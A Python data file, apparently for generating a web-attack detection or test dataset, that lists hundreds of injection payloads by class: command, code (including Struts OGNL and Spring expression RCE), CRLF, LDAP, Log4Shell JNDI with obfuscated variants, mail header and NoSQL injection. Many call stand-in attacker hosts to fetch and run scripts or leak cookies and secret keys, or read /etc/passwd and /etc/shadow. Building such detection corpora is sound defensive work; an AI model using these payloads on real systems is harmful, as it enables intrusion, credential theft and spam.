    I("c", "HP-4th-floor|echo 6964|xxd -r -p|sh", True, name="printer_name"),
    I("p", "app.log; cat /etc/passwd", ci=0),
    I("p", "lp0|id", ci=1),
    I("p", "x;w$()h$()o$()ami", True, ci=2, enc="full"),
    I("m", "photo.jpg; curl 203.0.113.6/s.sh|bash", ci=0, mk="filename", ext="txt"),
    I("m", "v2.4.1\r\n$(id>/tmp/.p)", True, ci=1),
    I("x", "router1; cat /etc/shadow", ci=0),
    I("x", "8.8.8.8|c\\at /et\\c/pa\\sswd", True, ci=1),
]

# ---------------------------------------------------------------- code_injection
CX["code_injection"] = dict(
    q=[
        ("GET", "/api/v1/calc", "expr"),
        ("GET", "/api/v2/reports/preview", "formula"),
        ("GET", "/api/v1/rules/evaluate", "condition"),
        ("GET", "/api/v1/items", "sort_key"),
    ],
    k=[("GET", "/api/v1/rules/evaluate"), ("GET", "/api/v2/calc")],
    j=[
        ("POST", "/api/v1/rules/evaluate", "condition", {"context": {"cart_total": 120.5, "country": "DE"}}),
        ("POST", "/api/v2/sheets/cells", "formula", {"sheet_id": "sh_82a1", "cell": "C7"}),
        ("POST", "/api/v1/webhooks/transform", "script", {"webhook_id": "wh_3391", "runtime": "node18"}),
        ("PUT", "/api/v1/pricing/rules/17", "expression", {"enabled": True, "priority": 3}),
        ("POST", "/api/v1/sandbox/eval", "code", {"kernel": "python3", "timeout": 30}),
        ("POST", "/api/v1/automations", "filter", {"trigger": "order.created", "engine": "ruby"}),
    ],
    f=[
        ("POST", "/tools/calculator", "expression", [("precision", "2")]),
        ("POST", "/admin/settings/advanced", "custom_validator", [("section", "checkout")]),
        ("POST", "/account/profile", "display_name", [("email", "k.mills@example.net")]),
    ],
    p=[("GET", "/api/v1/calc/", ""), ("GET", "/api/v1/eval/", "/result")],
    h=["X-Sort-Expression", "X-Filter"],
    c=["calc_state", "prefs_expr"],
    m=[
        ("POST", "/api/v1/spreadsheets/import", "formula", "text", [("sheet", "Q4")]),
        ("POST", "/api/v1/reports/custom", "row_expr", "text", [("report", "monthly")]),
    ],
    x=[
        ("POST", "/api/v1/rules/import", "rule", "condition"),
        ("POST", "/services/Calculator", "soap:Evaluate", "expression"),
    ],
)
_js_rce = "require('child_process').execSync('id')"
_ognl = (
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):"
    "((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance("
    "@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil."
    "getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder("
    "{'/bin/sh','-c',#cmd})).(#p.redirectErrorStream(true)).(#process=#p.start()).(#ros=(@org.apache.struts2."
    "ServletActionContext@getResponse().getOutputStream())).(@org.apache.commons.io.IOUtils@copy(#process."
    "getInputStream(),#ros)).(#ros.flush())}"
)
ITEMS["code_injection"] = [
    I("q", "__import__('os').system('id')", ci=0),
    I("q", "require('child_process').execSync('cat /etc/passwd').toString()", ci=2),
    I("q", "IO.popen('id').read", ci=3),
    I("q", "=cmd|' /C calc'!A0", ci=1),
    I("q", "getattr(__import__('o'+'s'),'sys'+'tem')('id')", True, ci=0),
    I("q", "eval(String.fromCharCode(%s))" % ",".join(str(ord(c)) for c in _js_rce), True, ci=2),
    I("q", "open('/etc/passwd').read()", True, ci=1, enc="full"),
    I(
        "k",
        kv=(
            "where[expr]",
            "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
        ),
        ci=0,
    ),
    I("k", kv=("calc[expr]", "\\u0072equire('child_process').execSync('id')"), hard=True, ci=1),
    I("j", "process.mainModule.require('child_process').exec('curl http://203.0.113.5/n|sh')", ci=2),
    I("j", "global.process.mainModule.constructor._load('child_process').execSync('id')", ci=2),
    I("j", "__import__('subprocess').check_output(['cat','/etc/passwd'])", ci=4),
    I("j", 'new java.lang.ProcessBuilder("bash","-c","id").start()', ci=3),
    I("j", '=HYPERLINK("http://203.0.113.9/?leak="&A1&B1,"Open invoice")', ci=1),
    I("j", "%x{cat /etc/passwd}", ci=5),
    I("j", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')", ci=0),
    I("j", "__builtins__.__dict__['__imp'+'ort__']('os').system('id')", True, ci=0),
    I("j", "exec(__import__('base64').b64decode('%s'))" % b64("import os;os.system('id')"), True, ci=4),
    I("j", "eval(bytes.fromhex('%s').decode())" % "__import__('os').system('id')".encode().hex(), True, ci=4),
    I(
        "j",
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')",
        True,
        ci=0,
    ),
    I("j", "require('child'+'_process')['ex'+'ecSync']('id')", True, ci=2),
    I("j", "eval(Buffer.from('%s','base64').toString())" % b64(_js_rce), True, ci=2),
    I(
        "j",
        "Function('return pro'+'cess')().mainModule.require('child_process').execSync('id')",
        True,
        ci=0,
        esc="()'+",
    ),
    I("j", "import('child_process').then(m=>m.execSync('curl 203.0.113.5|sh'))", True, ci=2),
    I("j", "Kernel.send('sys'+'tem','id')", True, ci=5),
    I("j", "Object.const_get(:Kernel).public_send(:system,'cat /etc/passwd')", True, ci=5),
    I("j", 'eval(\'\\x5f\\x5fimport\\x5f\\x5f("os").system("id")\')', True, ci=4),
    I("j", "''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')", True, ci=3),
    I("j", "__import__('os').popen('id').read()", True, ci=4, esc_all=True),
    I("f", "__import__('os').popen('id').read()", ci=0),
    I("f", "=cmd|' /C powershell IEX(wget 203.0.113.9/s)'!A0", ci=2),
    I("f", "IO.popen(%w[cat /etc/passwd]).read", ci=1),
    I("f", "@SUM(1+9)*cmd|' /C calc'!A0", True, ci=2),
    I("f", "vars(__builtins__)['ev'+'al'](\"__imp\"+\"ort__('os').system('id')\")", True, ci=0, enc="mixed"),
    I(
        "h",
        'T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwned")',
        name="spring.cloud.function.routing-expression",
        gp=("POST", "/functionRouter", ""),
        hbody=("text/plain", "hello"),
    ),
    I("h", _ognl, True, name="Content-Type", gp=("POST", "/portal/fileUpload.action", "")),
    I(
        "h",
        "T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(),T(java.nio.charset.Charset).defaultCharset())",
        name="X-Sort-Expression",
    ),
    I("c", "__import__('os').system('curl 203.0.113.5/c|sh')", name="calc_state"),
    I("c", "eval(atob('%s'))" % b64(_js_rce), True, name="prefs_expr"),
    I("p", "__import__('os').system('id')", ci=0),
    I("m", '=WEBSERVICE("http://203.0.113.9/?d="&A1&B1)', ci=0),
    I("m", "-2+3+cmd|' /C calc'!A0", True, ci=0),
    I("x", "__import__('os').system('id')", ci=0),
    I("x", "require('child_process').execSync('id')", True, ci=1, xm="ent"),
]

# ---------------------------------------------------------------- crlf
CX["crlf"] = dict(
    q=[
        ("GET", "/auth/logout", "next"),
        ("GET", "/redirect", "url"),
        ("GET", "/api/v1/i18n/switch", "lang"),
        ("GET", "/download", "name"),
    ],
    k=[("GET", "/api/v1/proxy/fetch"), ("GET", "/auth/callback")],
    j=[
        ("POST", "/api/v1/exports", "filename", {"format": "csv", "range": "2026-11"}),
        ("POST", "/api/v1/auth/login", "username", {"password": "Winter2026!"}),
        ("PUT", "/api/v1/users/me/preferences", "language", {"theme": "dark"}),
        ("POST", "/api/v1/short-links", "target", {"expires_in": 86400}),
    ],
    f=[
        ("POST", "/login", "username", [("password", "hunter2hunter2"), ("remember", "1")]),
        ("POST", "/account/locale", "locale", [("csrf", CSRF)]),
        ("POST", "/feedback", "page_url", [("rating", "4")]),
    ],
    p=[("GET", "/r/", ""), ("GET", "/api/v1/files/", "/download"), ("GET", "/lang/", "")],
    h=["X-Request-ID", "X-Correlation-ID", "Referer", "User-Agent", "X-Forwarded-Host", "X-Original-URL"],
    c=["lang", "return_to", "tracking_id"],
    m=[
        ("POST", "/api/v1/attachments", "file", "filename", [("ticket_id", "TCK-20931")]),
        ("POST", "/api/v1/branding", "redirect_after", "text", [("logo_alt", "Acme")]),
    ],
    x=[
        ("POST", "/api/v1/sso/settings", "settings", "relayState"),
        ("POST", "/services/Audit", "soap:LogEvent", "message"),
    ],
)
ITEMS["crlf"] = [
    I("q", "/home\r\nSet-Cookie: session=attacker123; Path=/", ci=0),
    I("q", "https://shop.mintbarrow.io/\r\nLocation: https://phish.example/", ci=1),
    I("q", "en\r\nX-XSS-Protection: 0\r\n\r\n<script>alert(document.domain)</script>", ci=2),
    I("q", "report.csv\r\nContent-Type: text/html", ci=3),
    I("q", "https://shop.mintbarrow.io/cart\r\n\r\n<script>fetch('//x.example/c?'+document.cookie)</script>", ci=1),
    I("q", "/dashboard\rSet-Cookie: admin=true", True, ci=0),
    I("q", "/x\nSet-Cookie:sid=attacker", True, ci=1, enc="mixed"),
    I("q", "/\u560a\u560dSet-Cookie: x=1", True, ci=0),
    I("q", "/%250d%250aSet-Cookie:%2520csrf=0", True, ci=0, enc="raw"),
    I("k", kv=("headers[X-Frame-Options]", "DENY\r\nSet-Cookie: sid=fixated"), ci=0),
    I("k", kv=("redirect[to]", "/\r\n\r\n<html>injected</html>"), ci=1),
    I("j", 'report.pdf"\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>', ci=0),
    I("j", "admin\n2026-12-07 10:22:13 INFO auth user=admin result=success ip=10.0.0.5", ci=1),
    I(
        "j",
        "de\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<html>defaced page</html>",
        ci=2,
    ),
    I("j", "https://mb.example/\r\nSet-Cookie: sid=fixed123; Domain=.mintbarrow.io", ci=3),
    I("j", "en\r\nAccess-Control-Allow-Origin: https://evil.example\r\nAccess-Control-Allow-Credentials: true", ci=2),
    I("j", "invoice.pdf\r\nSet-Cookie: role=admin", True, ci=0, esc="\r\n:"),
    I("j", "guest\u0085[INFO] password reset ok for user=admin", True, ci=1),
    I("j", "jdoe\r\n\x1b[2J\x1b[1;1H[INFO] all integrity checks passed", True, ci=1),
    I("j", "https://t.example/%0d%0aSet-Cookie:%20a=b", True, ci=3),
    I("f", "admin\r\n[2026-12-07T10:00:00Z] AUDIT role granted: superadmin by root", ci=0),
    I("f", "en-US\r\nSet-Cookie: locale=x; HttpOnly\r\nX-Injected: 1", ci=1),
    I("f", "https://www.mintbarrow.io/help\r\nLink: <https://evil.example/x.css>; rel=stylesheet", ci=2),
    I("f", "https://www.mintbarrow.io/\r\nRefresh: 0; url=https://phish.example/", True, ci=2, enc="full"),
    I("f", "de%250d%250aSet-Cookie:%2520a=1", True, ci=1, enc="raw"),
    I("f", "mallory\r\nINFO 2026-12-07 login ok user=admin", True, ci=0, enc="mixed"),
    I("h", "abc123%0d%0aSet-Cookie:%20sid=evil", True, name="X-Request-ID"),
    I("h", "7f3e%0D%0AX-Forwarded-For:%20127.0.0.1", True, name="X-Correlation-ID"),
    I("h", "https://www.google.com/%0d%0aSet-Cookie:%20ref=1", True, name="Referer"),
    I("h", "shop.mintbarrow.io%0d%0aLocation:%20https://phish.example", True, name="X-Forwarded-Host"),
    I("h", "Mozilla/5.0%0aINFO admin login succeeded from 10.0.0.1", True, name="User-Agent"),
    I("h", "/%E5%98%8A%E5%98%8DSet-Cookie:%20x=1", True, name="X-Original-URL"),
    I("c", "en\r\nSet-Cookie: admin=1", name="lang"),
    I("c", "/\r\nLocation: https://phish.example", name="return_to"),
    I("c", "a1b2\r\nX-Test: y", True, name="tracking_id", enc="mixed"),
    I("c", "en%250d%250aSet-Cookie:%2520x=1", True, name="lang", enc="raw"),
    I("p", "\r\nSet-Cookie: sess=fixed", ci=0),
    I("p", "doc.pdf\r\nContent-Disposition: inline", ci=1),
    I("p", "en\r\n\r\n<svg onload=alert(1)>", True, ci=2, enc="mixed"),
    I("p", "\u560d\u560aSet-Cookie: a=b", True, ci=0),
    I("m", "invoice.pdf%0d%0aContent-Type:%20text/html", True, ci=0, mk="filename", ext="pdf"),
    I("m", "/home\r\nSet-Cookie: sid=attacker", ci=1),
    I("x", "https://app.quillmetrics.net/\r\nSet-Cookie: x=1", True, ci=0, xm="ent"),
    I("x", "payment ok\n[2026-12-07 11:02:44] WARN refund issued order=88412 amount=9999.00", ci=1),
]

# ---------------------------------------------------------------- ldapi
CX["ldapi"] = dict(
    q=[
        ("GET", "/api/v1/directory/search", "q"),
        ("GET", "/api/v1/users/lookup", "uid"),
        ("GET", "/api/v2/groups/members", "group"),
        ("GET", "/people", "mail"),
    ],
    k=[("GET", "/api/v1/directory/search"), ("GET", "/api/v2/people")],
    j=[
        ("POST", "/api/v1/auth/ldap", "username", {"password": "Spring2026!", "domain": "CORP"}),
        ("POST", "/api/v1/directory/query", "cn", {"attributes": ["mail", "telephoneNumber"], "limit": 25}),
        ("POST", "/api/v2/sso/lookup", "email", {"tenant": "ashgrove"}),
        ("PATCH", "/api/v1/access/reviews/221", "manager_uid", {"status": "pending"}),
    ],
    f=[
        ("POST", "/login", "user", [("pass", "P@ssw0rd-2026"), ("realm", "staff")]),
        ("POST", "/password/forgot", "login", [("csrf", CSRF)]),
        ("POST", "/phonebook/search", "surname", [("dept", "")]),
    ],
    p=[("GET", "/api/v1/users/", "/profile"), ("GET", "/api/v1/groups/", "")],
    h=["X-Remote-User", "X-Auth-Username", "X-Forwarded-User"],
    c=["remember_user", "last_login"],
    m=[("POST", "/api/v1/badges/request", "employee_id", "text", [("reason", "lost badge")])],
    x=[
        ("POST", "/services/Directory", "soap:FindPerson", "uid"),
        ("POST", "/api/v1/provisioning", "user", "sAMAccountName"),
    ],
)
ITEMS["ldapi"] = [
    I("q", "*)(uid=*))(|(uid=*", ci=0),
    I("q", "admin)(|(objectClass=*)", ci=1),
    I("q", "*)(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=example", ci=2),
    I("q", "*@*)(|(mail=*", ci=3),
    I("q", "jsmith)(userPassword=a*", ci=1),
    I("q", "*)(2.5.4.3=*", True, ci=0),
    I("q", "admin)(&)", True, ci=1, enc="full"),
    I("q", "*)(UsErPaSsWoRd=*", True, ci=1),
    I("q", "%252a%2529%2528uid%253d%252a", True, ci=0, enc="raw"),
    I("q", "*)(uid=*))\x00", True, ci=0),
    I("k", kv=("filter[mail]", "*)(|(mail=*")),
    I("k", kv=("f[cn]", "x*)(|(cn=*"), hard=True, enc="full"),
    I("j", "admin)(&)", ci=0),
    I("j", "svc-backup)(!(&(1=0", ci=0),
    I("j", "x@y.example)(|(objectClass=*)", ci=2),
    I("j", "j.doe)(|(description=*pass*)(info=*pwd*)", ci=3),
    I("j", "*)(|(sAMAccountName=*)(userPrincipalName=*)", ci=2),
    I("j", "*)(|(objectCategory=CN=Person,CN=Schema,CN=Configuration,DC=corp,DC=example)(adminCount=1)", ci=1),
    I("j", "*)(userAccountControl:1.2.840.113556.1.4.803:=512", True, ci=1),
    I("j", "*)(objectClass=*", True, ci=1, esc_all=True),
    I("j", "*)(uid=*))(|(uid=*", True, ci=0, esc="()*="),
    I("j", "*)(objectclass:caseIgnoreMatch:=*", True, ci=1),
    I("j", "admin)(|(cn~=admn", True, ci=0),
    I("j", "*)(uidNumber>=0", True, ci=1),
    I("j", "*)(0.9.2342.19200300.100.1.1=*", True, ci=1),
    I("j", "a*)(|(objectClass=*))\x00", True, ci=0),
    I("f", "*)(givenName=*))(|(givenName=*", ci=0),
    I("f", "helpdesk)(|(userPassword=*)", ci=1),
    I("f", "*))(|(telephoneNumber=*", ci=2),
    I("f", "admin)(!(&(1=0", True, ci=0, enc="mixed"),
    I("f", "*)(aDmInCoUnT=1", True, ci=2),
    I("h", "*)(cn=*))(|(cn=*", name="X-Remote-User"),
    I("h", "root)(&)", name="X-Auth-Username"),
    I("h", "*)(memberOf=CN=Administrators*", name="X-Forwarded-User"),
    I("h", "%2a%29%28objectClass%3d%2a", True, name="X-Remote-User"),
    I("h", "ADMIN)(|(OBJECTCLASS=*)", True, name="X-Forwarded-User"),
    I("c", "*)(uid=*", name="remember_user"),
    I("c", "admin)(|(cn=*", True, name="last_login", enc="full"),
    I("p", "*)(sn=*))(|(sn=*", ci=0),
    I("p", "admin)(|(objectClass=*", True, ci=1, enc="mixed"),
    I("m", "*)(employeeNumber=*", ci=0),
    I("m", "1042)(|(2.16.840.1.113730.3.1.3=*)", True, ci=0),
    I("x", "*)(mail=*))(|(mail=*", ci=0),
    I("x", "admin)(|(userPassword=*)", True, ci=1, xm="ent"),
]

# ---------------------------------------------------------------- log4shell
CX["log4shell"] = dict(
    q=[
        ("GET", "/api/v1/search", "q"),
        ("GET", "/login", "username"),
        ("GET", "/api/v2/products", "category"),
        ("GET", "/solr/admin/cores", "action"),
    ],
    k=[("GET", "/api/v1/search")],
    j=[
        ("POST", "/api/v1/auth/login", "username", {"password": "x9!kQ2vz"}),
        ("POST", "/api/v1/events", "message", {"level": "info", "app": "checkout"}),
        ("PUT", "/api/v2/profile", "display_name", {"timezone": "UTC"}),
        ("POST", "/api/v1/support/tickets", "subject", {"priority": "normal"}),
    ],
    f=[
        ("POST", "/j_security_check", "j_username", [("j_password", "changeme")]),
        ("POST", "/contact", "message", [("name", "Sam")]),
        ("POST", "/api/login", "email", [("password", "letmein2026")]),
    ],
    p=[("GET", "/api/v1/users/", ""), ("GET", "/api/v1/lookup/", "")],
    h=["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For"],
    c=["JSESSIONID", "remember-me", "lang"],
    m=[("POST", "/api/v1/uploads", "description", "text", [("folder", "inbox")])],
    x=[
        ("POST", "/services/Orders", "soap:SubmitOrder", "customerRef"),
        ("POST", "/api/v1/import", "record", "comment"),
    ],
)
L = "203.0.113.15"
ITEMS["log4shell"] = [
    I("h", "${jndi:ldap://%s:1389/a}" % L, name="User-Agent"),
    I("h", "${jndi:ldap://x4kq.l4j.oast.example/a}", name="X-Api-Version"),
    I("h", "${jndi:rmi://198.51.100.4:1099/Exploit}", name="Referer"),
    I("h", "${jndi:dns://%s/xff}" % L, name="X-Forwarded-For"),
    I("h", "${jndi:ldap://${env:USER}.c2.attacker.example/a}", name="X-Client-IP"),
    I("h", "${jndi:ldap://${sys:java.version}.x.oast.example/a}", name="True-Client-IP"),
    I("h", "Bearer ${jndi:ldaps://c2.attacker.example:636/o=tomcat}", name="Authorization"),
    I("h", "${jndi:ldap://%s:1389/Basic/Command/Base64/%s}" % (L, b64("curl 203.0.113.15/s|sh")), name="Accept"),
    I("h", "${jndi:nds://%s/wap}" % L, name="X-Wap-Profile"),
    I("q", "${jndi:ldap://%s:1389/solr}" % L, ci=3),
    I("q", "${jndi:ldap://${hostName}.x.oast.example/q}", ci=0),
    I("j", "${jndi:ldap://%s/o=reference}" % L, ci=0),
    I("j", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.exfil.attacker.example/a}", ci=1),
    I("j", "${jndi:iiop://198.51.100.4:1050/x}", ci=2),
    I("j", "${jndi:http://%s/x}" % L, ci=3),
    I("f", "${jndi:ldap://%s:1389/jsc}" % L, ci=0),
    I("f", "${jndi:rmi://c2.attacker.example/ctx}", ci=1),
    I("c", "${jndi:ldap://%s/rm}" % L, name="remember-me"),
    I("p", "${jndi:ldap://%s/p}" % L, ci=0),
    I("m", "${jndi:ldap://%s/m}" % L, ci=0),
    I("x", "${jndi:ldap://%s/soap}" % L, ci=0),
    I("k", kv=("filter[${jndi:ldap://%s/k}]" % L, "1")),
    I("h", "${${lower:j}ndi:${lower:l}dap://x.oast.example/a}", True, name="User-Agent"),
    I("h", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://%s/a}" % L, True, name="Referer"),
    I("h", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//%s/a}" % L, True, name="X-Api-Version"),
    I("h", "${jndi:ldap://127.0.0.1#c2.attacker.example:1389/a}", True, name="CF-Connecting-IP"),
    I("h", "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://%s/u}" % L, True, name="X-Forwarded-For"),
    I("h", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://%s/k8}" % L, True, name="Contact"),
    I("h", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://%s/d}" % L, True, name="X-Correlation-ID"),
    I("h", "${jndi:${lower:l}${lower:d}a${lower:p}://%s/al}" % L, True, name="Accept-Language"),
    I("q", "${${lower:${lower:jndi}}:${lower:ldap}://%s/q}" % L, True, ci=0, enc="mixed"),
    I("q", "%%2524%%257Bjndi:ldap://%s/dbl%%257D" % L, True, ci=1, enc="raw"),
    I("q", "${JnDi:LdAp://%s/case}" % L, True, ci=2),
    I("j", "${jndi:ldap://%s/ju}" % L, True, ci=0, esc="${}:"),
    I("j", "${jnd${upper:\u0131}:ldap://%s/tr}" % L, True, ci=1),
    I("j", "${${::-${::-$${::-j}}}}", True, ci=1),
    I("j", "${j${main:k5:-Nd}i${spring:k5:-:}ldap://%s/sp}" % L, True, ci=2),
    I("j", "${${sys:nope:-j}ndi:rmi://198.51.100.4/sys}", True, ci=3),
    I("f", "${jn${lower:d}i:l${lower:d}ap://%s/f}" % L, True, ci=1, enc="full"),
    I("f", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//%s/f2}" % L, True, ci=2),
    I("c", "${${lower:j}${lower:n}${lower:d}i:${lower:r}mi://198.51.100.4/c}", True, name="lang"),
    I("p", "${${::-j}ndi:ldap://%s/pp}" % L, True, ci=1, enc="mixed"),
    I("x", "${jndi:ldap://%s/x}" % L, True, ci=1, xm="ent"),
    I("m", "${${lower:jnd}${upper:i}:ldap://%s/mp}" % L, True, ci=0),
]

# ---------------------------------------------------------------- mail_injection
CX["mail_injection"] = dict(
    q=[
        ("GET", "/api/v1/newsletter/subscribe", "email"),
        ("GET", "/share/email", "to"),
        ("GET", "/api/v1/invites/resend", "address"),
    ],
    k=[("GET", "/share/email"), ("GET", "/api/v1/reports/email")],
    j=[
        (
            "POST",
            "/api/v1/contact",
            "email",
            {"name": "Dana Whitfield", "message": "Please call me back about my order."},
        ),
        (
            "POST",
            "/api/v1/contact",
            "subject",
            {"email": "dana.w@example.net", "message": "Question about invoice INV-20418"},
        ),
        ("POST", "/api/v2/share", "recipient", {"item_id": "prd_7781", "note": "Thought you'd like this"}),
        ("POST", "/api/v1/password/reset", "email", {"locale": "en"}),
        ("PUT", "/api/v1/support/tickets/5521", "reply_to", {"status": "open"}),
        ("POST", "/api/v1/referrals", "from_name", {"friend_email": "pat@example.org"}),
    ],
    f=[
        ("POST", "/contact.php", "name", [("email", "lee@example.com"), ("message", "Hello, I have a question.")]),
        ("POST", "/contact.php", "subject", [("email", "lee@example.com"), ("message", "See subject.")]),
        ("POST", "/newsletter", "email", [("list", "weekly")]),
        ("POST", "/send-quote", "from", [("quote_id", "Q-3391")]),
    ],
    p=[("GET", "/unsubscribe/", ""), ("GET", "/api/v1/mailing/", "/confirm")],
    h=["X-Reply-To", "X-Sender-Name", "X-Notify-Email"],
    c=["newsletter_email", "sender_name"],
    m=[
        ("POST", "/api/v1/careers/apply", "email", "text", [("position", "Backend Engineer")]),
        ("POST", "/api/v1/support/upload", "subject", "text", [("ticket", "new")]),
    ],
    x=[
        ("POST", "/services/Mailer", "soap:SendMessage", "to"),
        ("POST", "/api/v1/notifications/email", "notification", "subject"),
    ],
)
_bw = "=?UTF-8?B?%s?=" % b64("Hello\r\nBcc: b64@spam.example")
ITEMS["mail_injection"] = [
    I("f", "John Doe\r\nBcc: list1@spam.example,list2@spam.example", ci=0),
    I("f", "Hello\r\nCc: victim@corp.example", ci=1),
    I("f", "jane@example.com\r\nBcc: everyone@spam.example", ci=2),
    I("f", "sales@example.com\r\nReply-To: phish@evil.example", ci=3),
    I("f", "attacker@example.com -X/var/www/html/log.php -OQueueDirectory=/tmp", ci=3),
    I("f", "Ann\nTo: x@spam.example\nSubject: You won a prize", ci=0),
    I("j", "dana@example.net\nBcc: x1@spam.example, x2@spam.example", ci=0),
    I("j", "Invoice question\r\nBcc: harvest@spam.example\r\n\r\nCheap meds at http://spam.example/", ci=1),
    I("j", "pat@example.org\r\nTo: a@victims.example, b@victims.example", ci=2),
    I("j", "victim@example.com\r\nBcc: attacker@evil.example", ci=3),
    I(
        "j",
        'help@example.com\r\nContent-Type: text/html\r\n\r\n<a href="https://phish.example/login">Verify your account</a>',
        ci=4,
    ),
    I("j", "Alex\r\nBcc: 500-recipients@spam.example", ci=5),
    I("j", "x@example.com>\r\nRCPT TO:<victim@corp.example>\r\nDATA\r\nSubject: hi\r\n\r\nspam\r\n.\r\nQUIT", ci=0),
    I("q", "news@example.com\r\nBcc: spamtarget@corp.example", ci=0),
    I("q", "friend@example.com\r\nCc: boss@corp.example", ci=1),
    I("q", "new.hire@example.com\nBcc: leak@evil.example", ci=2),
    I("k", kv=("to[]", "victim1@corp.example\r\nBcc: spam@spam.example"), ci=0),
    I("c", "a@example.com\r\nBcc: b@spam.example", name="newsletter_email"),
    I("p", "u@example.com\r\nBcc: c@spam.example", ci=0),
    I("m", "cand@example.com\r\nBcc: hr-dump@evil.example", ci=0),
    I("m", "Broken invoice\r\nCc: all-staff@corp.example", ci=1),
    I("x", "ops@example.com\nBcc: leak@evil.example", ci=0),
    I("j", "joe@example.com\r\nBcc: hidden@evil.example", True, ci=0, esc="\r\n"),
    I("j", "Hi\r\nBcc: x@evil.example", True, ci=1, esc_all=True),
    I("j", "pat@example.org\rBcc: cr@spam.example", True, ci=2),
    I("j", "=?utf-8?q?Order_update=0D=0ABcc:_list@spam.example?=", True, ci=1),
    I("j", _bw, True, ci=5),
    I("j", "help@example.com\nBcc: lf@spam.example", True, ci=4, esc="\n:"),
    I("j", None, True, ci=3, obj=["victim@example.com", "attacker@evil.example"]),
    I("f", "sub@example.com\r\nBcc: s1@spam.example", True, ci=2, enc="full"),
    I("f", "Question\r\nbCc: list@spam.example", True, ci=1, enc="mixed"),
    I("f", "Kim%250d%250aBcc:spam@spam.example", True, ci=0, enc="raw"),
    I("f", '"attacker\\" -oQ/tmp/ -X/var/www/html/shell.php  some"@email.com', True, ci=3),
    I("h", "support@example.com%0d%0aBcc:%20bulk@spam.example", True, name="X-Reply-To"),
    I("h", "Pat%0ACc:%20all@corp.example", True, name="X-Sender-Name"),
    I("h", "ops@example.com%0D%0ABcc:%20leak@evil.example", True, name="X-Notify-Email"),
    I("c", "Sam\r\nBcc: c@spam.example", True, name="sender_name", enc="mixed"),
    I("q", "me@example.com%250ABcc:x@spam.example", True, ci=0, enc="raw"),
    I("q", "friend@example.com\nTo: a@spam.example", True, ci=1, enc="mixed"),
    I("p", "a@example.com\r\nBcc: p@spam.example", True, ci=1, enc="full"),
    I("x", "ops@example.com\r\nBcc: leak@evil.example", True, ci=0, xm="ent"),
    I("x", "Alert\r\nBcc: soc-copy@evil.example", True, ci=1, xm="ent"),
    I("m", "Invoice %0d%0aBcc: y@spam.example", True, ci=1),
    I("k", kv=("cc[]", "a@example.com\r\nBcc: q@spam.example"), hard=True, enc="full", ci=1),
]

# ---------------------------------------------------------------- nosqli
CX["nosqli"] = dict(
    q=[("GET", "/api/v1/products", "filter"), ("GET", "/api/v2/users/search", "where"), ("GET", "/api/v1/orders", "q")],
    k=[("GET", "/api/v1/users/login"), ("GET", "/api/v1/products"), ("GET", "/api/v2/accounts")],
    j=[
        ("POST", "/api/v1/auth/login", "password", {"username": "admin"}),
        ("POST", "/api/v1/auth/login", "username", {"password": "irrelevant"}),
        ("POST", "/api/v2/users/search", "email", {"limit": 10}),
        ("POST", "/api/v1/password/reset/confirm", "token", {"new_password": "Pwned!2026"}),
        ("PATCH", "/api/v1/orders/66f1c2a9e4b0d3", "status", {"note": "update"}),
        ("POST", "/api/v1/reports/aggregate", "pipeline", {"collection": "orders"}),
    ],
    f=[
        ("POST", "/login", "password", [("username", "admin")]),
        ("POST", "/api/session", "user", [("pass", "x")]),
        ("POST", "/account/verify", "code", [("email", "admin@corp.example")]),
    ],
    h=["X-Filter", "X-Query"],
    c=["session_user", "prefs", "cart_id"],
    m=[("POST", "/api/v1/exports/filtered", "filter", "text", [("format", "csv")])],
    x=[("POST", "/api/v1/import/users", "user", "username")],
)
_lookup = [
    {"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}},
    {"$project": {"u.password": 1, "u.email": 1, "u.resetToken": 1}},
]
ITEMS["nosqli"] = [
    I("j", obj={"$ne": None}, ci=0),
    I("j", obj={"$gt": ""}, ci=1),
    I("j", obj={"$regex": "^adm"}, ci=1),
    I("j", obj={"$in": ["admin", "root", "superuser"]}, ci=1),
    I("j", obj={"$exists": True}, ci=3),
    I("j", obj={"$regex": "^a"}, ci=3),
    I("j", obj=_lookup, ci=5),
    I("j", obj={"$nin": [""]}, hard=True, ci=0, esc="$n"),
    I("j", obj={"$regex": ".*"}, hard=True, ci=3, esc_all=True),
    I("j", obj={"$ne": None}, hard=True, ci=0, esc="$"),
    I("j", obj={"$gt": ""}, hard=True, ci=1, esc_all=True),
    I("j", obj={"$not": {"$eq": "x"}}, hard=True, ci=0),
    I("j", obj=_lookup, hard=True, ci=5, esc="$"),
    I("jk", obj={"$where": "this.password.length > 0"}, ci=2, top=True),
    I("jk", obj={"$where": "sleep(5000) || true"}, ci=2, top=True),
    I("jk", obj={"$set": {"role": "admin", "emailVerified": True}}, ci=4, top=True),
    I(
        "jk",
        obj={"$expr": {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}},
